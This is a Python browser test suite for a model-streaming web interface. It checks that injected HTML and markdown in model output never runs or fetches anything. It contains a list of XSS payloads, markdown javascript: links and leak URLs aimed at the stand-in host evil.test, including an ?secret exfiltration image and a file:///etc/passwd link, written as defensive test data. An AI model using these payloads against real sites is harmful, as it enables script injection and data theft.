"""Text of models and programs, and of pages that they quote, never runs or fetches anything."""

from __future__ import annotations

import json
import time

from modelstream_studio import frames

# Each payload tries to call `owned()` or to fetch something from evil.test.
PAYLOADS = [
    "<script>owned()</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<img src=x onerror=owned()>",
    "<img src=http://evil.test/i.png>",
    '<img """><script>owned()</script>">',
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:owned()'>x",
    "<iframe src='javascript:parent.owned()'></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data='javascript:owned()'></object>",
    "<embed src='javascript:owned()'>",
    "<body onload=owned()>",
    "<input autofocus onfocus=owned()>",
    "<select autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>x</details>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()></audio>",
    "<marquee onstart=owned()>x</marquee>",
    "<a href='javascript:owned()'>click</a>",
    "<form action='javascript:owned()'><button>go</button></form>",
    "<button onclick=owned()>go</button>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<base href=http://evil.test/>",
    "<style>@import 'http://evil.test/x.css'; * { background: url(http://evil.test/b) }</style>",
    "<div style='background:url(http://evil.test/b)'>x</div>",
    "<template><script>owned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<!--<img src='--><img src=x onerror=owned()>'>",
    "</div></article><script>owned()</script>",
    "<x onclick=owned() style='position:fixed;inset:0'>x</x>",
    "<a id=location href=//evil.test>clobber</a><form id=body name=getElementById></form>",
    "[click](javascript:owned())",
    "[click](JaVaScRiPt:owned())",
    "[click](javascript&colon;owned())",
    "[click](java\tscript:owned())",
    "[click](data:text/html,<script>owned()</script>)",
    "[click](vbscript:owned())",
    "[click](file:///etc/passwd)",
    "<javascript:owned()>",
    "[ref]\n\n[ref]: javascript:owned()",
    "![x](http://evil.test/leak?secret)",
    '![x](x"onerror="owned())',
    '[x](http://a" onclick="owned())',
    "![x][img]\n\n[img]: http://evil.test/p.png",
    '```"><script>owned()</script>\ncode\n```',
    '```python" onclick="owned()\ncode\n```',
    "```\n</code></pre><script>owned()</script>\n```",
    "`</code><img src=x onerror=owned()>`",
    "| <img src=x onerror=owned()> | b |\n|---|---|\n| <script>owned()</script> | [x](javascript:owned()) |",
    "> <script>owned()</script>\n\n- <svg onload=owned()>\n",
    "# <img src=x onerror=owned()>",
    "&lt;script&gt;owned()&lt;/script&gt; &#60;script&#62;owned()&#60;/script&#62;",
    "\u202e<script>owned()</script>\u0000\u2028owned()",
    "{{constructor.constructor('owned()')()}} ${owned()} <%= owned() %>",
    '<http://evil.test/auto" onmouseover="owned()>',
]


def first_frames(payload, number):
    """A failed and a live message and a question, with the payload in every field."""
    at = time.time()
    fields = {"model_name": payload, "model_type": payload, "role": payload, "metadata": {payload: payload}}
    call = json.dumps({payload: payload}) + payload
    schema = {"type": "object", "title": payload, "properties": {payload: {"enum": [payload]}}}
    ended, live = f"ended-{number}", f"live-{number}"
    yield frames.Open(ended, payload, at, **fields)
    yield frames.Reasoning(ended, 0, payload)
    yield frames.Text(ended, 0, f"{payload}\n\n{payload}\n\n")
    yield frames.Tool(ended, 0, 0, call, payload, payload)
    failure = frames.Failure(payload, payload)
    yield frames.Close(ended, "failed", at, finish_reason=payload, error=failure)
    yield frames.Open(live, payload, at, **fields)
    yield frames.Ask(f"{live}-asks", payload, payload, at, schema)


def more_frames(number, piece, offset):
    live = f"live-{number}"
    yield frames.Text(live, offset, piece, 1.0)
    yield frames.Reasoning(live, offset, piece, 1.0)
    yield frames.Tool(live, 0, offset, piece, "id", piece)


def test_nothing_runs_and_nothing_is_fetched(server, program, tab):
    reporter = program(server, "injections", "injections")
    payloads = list(enumerate(PAYLOADS))
    reporter.report(*(frame for number, payload in payloads for frame in first_frames(payload, number)))
    other_programs = [
        program(server, payload, payload, program=payload, host=payload) for payload in PAYLOADS[:6]
    ]
    for other in other_programs:
        other.speak("Someone").write("Something.").end()
    page, urls = tab(), []
    page.on("request", lambda request: urls.append(request.url))
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.add_init_script("window.ran = 0; window.owned = () => { window.ran += 1; };")
    page.goto(f"{server.link}&run={reporter.run}")
    page.wait_for_selector(f"#m-live-{len(PAYLOADS) - 1}")
    for half in (0, 1):  # in two pieces, so that the open tail has halves of tags
        for part in (payloads[:30], payloads[30:]):
            reporter.report(
                *(frame for number, text in part for frame in more_frames(number, *piece(text, half)))
            )
        page.locator(f"#m-live-{len(PAYLOADS) - 1} .tail", has_text=piece(PAYLOADS[-1], half)[0]).wait_for()
        assert page.evaluate(ACTIVE) == []
    reporter.report(*(frames.Close(f"live-{number}", "complete", 2.0) for number, _ in payloads))
    page.wait_for_selector(f"#m-live-{len(PAYLOADS) - 1}[data-state=complete]")
    assert page.locator("#dock .question").count() == len(PAYLOADS)
    assert page.evaluate(ACTIVE) == []
    page.evaluate(TOUCH)
    for other in other_programs:
        page.locator(f".run[data-run='{other.run}']").click()
        name = " ".join(PAYLOADS[other_programs.index(other)].split())
        page.locator("#run-name", has_text=name).wait_for()  # the previous run has the same message
        page.locator(".message", has_text="Something.").wait_for()
        assert page.locator("#run-name").text_content() == name
        assert page.evaluate(ACTIVE) == []
    assert page.evaluate("() => window.ran") == 0
    assert [url for url in urls if not url.startswith(server.url)] == []


def piece(text, half):
    """The first or the second half, and its offset."""
    middle = len(text) // 2
    return (text[:middle], 0) if half == 0 else (text[middle:], middle)


# Unfolds all reasoning and clicks everything except links.
TOUCH = """() => {
  for (const one of document.querySelectorAll(".reasoning")) one.open = true;
  for (const one of document.querySelectorAll(".prose *, .tool *, .trouble *")) {
    if (one.matches("a[href^=http], a[href^=mailto]")) continue;
    one.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
    one.click?.();
  }
}"""
ACTIVE = """() => {
  const FORBIDDEN = /^(iframe|object|embed|img|video|audio|base|meta|link|style|template|math)$/i;
  const bad = [];
  const own = new Set(["/static/early.js", "/static/main.js"]);
  for (const script of document.querySelectorAll("script")) {
    if (!own.has(script.getAttribute("src"))) bad.push(script.outerHTML);
  }
  const places = document.querySelectorAll("#log, #dock, #runs, #run-head");
  for (const place of places) for (const element of place.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const active = /^(on.*|style|srcdoc|formaction)$/.test(name);
      const leads = /^(href|src|action|data|xlink:href)$/.test(name) && !/^(https?:|mailto:|#)/.test(value);
      if (active || leads) bad.push(element.outerHTML);
    }
    if (FORBIDDEN.test(element.tagName)) bad.push(element.outerHTML);
    if (element.closest(".prose") && element.id) bad.push(element.outerHTML);
  }
  return bad;
}"""


def test_links_open_without_a_reference_to_the_page(server, program, tab):
    reporter = program(server, "links")
    text = "[good](https://example.org/) [mail](mailto:a@example.org) [plain](http://example.org/)"
    speech = reporter.speak("Linker").write(text).end()
    page = tab(f"{server.link}&run={reporter.run}")
    links = page.locator(f"{speech.article} a")
    links.first.wait_for()
    assert links.count() == 3
    for link in links.all():
        assert {"noopener", "noreferrer"} <= set(link.get_attribute("rel").split())
        assert link.get_attribute("target") == "_blank"


def test_the_content_security_policy_blocks_injected_html(server, elsewhere, tab):
    """It refuses inline scripts, styles, foreign images and requests."""
    page = tab(server.link, expected_errors=["Content Security Policy"])
    page.wait_for_selector("body:not([data-view=loading])")
    leak = f"http://evil.test:{elsewhere.port}/leak"
    outcome = page.evaluate(
        """async leak => {
          window.ran = 0;
          const script = document.createElement("script");
          script.textContent = "window.ran = 1";
          const image = new Image();
          image.src = leak;
          const box = document.createElement("div");
          box.innerHTML = "<b onclick='window.ran = 2'>x</b><form action='" + leak + "'></form>";
          document.body.append(script, image, box);
          box.querySelector("b").click();
          box.querySelector("form").submit();
          return fetch(leak).then(() => "reached", () => "refused");
        }""",
        leak,
    )
    assert outcome == "refused"
    assert page.evaluate("() => window.ran") == 0
    assert elsewhere.requests == []


def test_html_is_inserted_in_one_module_only():
    from browser_stage import PAGE

    risky = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
        "setHTML",
    )
    users = {
        file.name for file in PAGE.glob("*.js") if any(word in file.read_text("utf-8") for word in risky)
    }
    assert users == {"blocks.js"}
